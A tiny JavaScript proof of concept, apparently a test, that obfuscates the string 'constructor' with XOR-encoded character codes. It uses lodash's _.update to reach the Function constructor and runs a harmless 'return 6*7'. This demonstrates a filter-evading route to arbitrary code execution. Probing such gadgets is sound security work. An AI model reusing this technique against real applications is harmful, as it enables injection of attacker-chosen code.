// reaches f.<computed> by _.update's updater
const _ = require('lodash');
const n = String.fromCharCode(...[98, 110, 111, 114, 117, 115, 116, 98, 117, 110, 115].map((c) => c ^ 1));
_.update(() => 0, n, (F) => { try { console.log(F('return 6*7')()); } catch (e) { console.log(e.message); } });
